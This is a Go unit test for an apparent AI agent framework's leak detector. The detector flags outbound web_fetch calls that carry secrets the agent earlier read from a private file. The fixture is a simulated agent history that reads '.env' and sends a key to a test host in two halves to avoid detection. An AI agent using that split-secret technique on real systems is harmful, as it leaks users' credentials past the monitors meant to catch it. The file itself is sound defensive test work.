package worker

import (
	"context"
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/aetherium-engine/aetherium/llm"
	"github.com/aetherium-engine/aetherium/tools"
)

// The session's fingerprints come from its history: the private reads' answers,
// and the outbound calls already sent, so a key split over two calls is found
// when the second is sent — unless the first was refused before it ran.
func TestSessionContentFromHistory(t *testing.T) {
	t.Parallel()
	reg := tools.NewRegistry()
	noop := func(context.Context, tools.Call, map[string]any) (tools.Result, error) { return tools.Result{}, nil }
	tools.Register(reg, "web_fetch", "fetch", noop, tools.InGroup("research"), tools.Reads(tools.Untrusted), tools.Outbound())
	tools.Register(reg, "read_file", "read", noop, tools.InGroup("workspace"), tools.Reads(tools.Private))
	const key = "Zq8vR2mX4eC39HqLyjWDa7Tp" // 24 characters: each half alone is too short to count
	first, second := `{"url":"https://api.partner.test/?a=`+key[:12]+`"}`, `{"url":"https://api.partner.test/?b=`+key[12:]+`"}`
	history := func(refused bool) []llm.Message {
		return []llm.Message{
			{Role: llm.RoleSystem, Content: "you are"}, {Role: llm.RoleUser, Content: "task"},
			{Role: llm.RoleAssistant, ToolCalls: []llm.ToolCall{{ID: "a", Name: "read_file", Args: json.RawMessage(`{"path":".env"}`)}}},
			{Role: llm.RoleTool, ToolCallID: "a", Name: "read_file", Content: "PARTNER_KEY=" + key + "\n"},
			{Role: llm.RoleAssistant, ToolCalls: []llm.ToolCall{{ID: "b", Name: "web_fetch", Args: json.RawMessage(first)}}},
			{Role: llm.RoleTool, ToolCallID: "b", Name: "web_fetch", Content: "ok", Refused: refused, IsError: refused},
		}
	}
	for _, tc := range []struct {
		name    string
		refused bool
		found   bool
	}{
		{name: "the first half was sent", found: true},
		{name: "the first half was refused before it ran", refused: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			c, err := newSessionContent()
			require.NoError(t, err)
			msgs := history(tc.refused)
			c.fold(reg, msgs[:4])
			c.fold(reg, msgs) // incremental: the outbound call folds in later
			m, ok := c.Carried(second)
			require.Equal(t, tc.found, ok, "%+v", m)
			if tc.found {
				require.Equal(t, "read_file .env (turn 1)", m.Source)
			}
			_, ok = c.Carried(`{"url":"https://api.partner.test/?b=nothing-private-here"}`)
			require.False(t, ok)
		})
	}
}
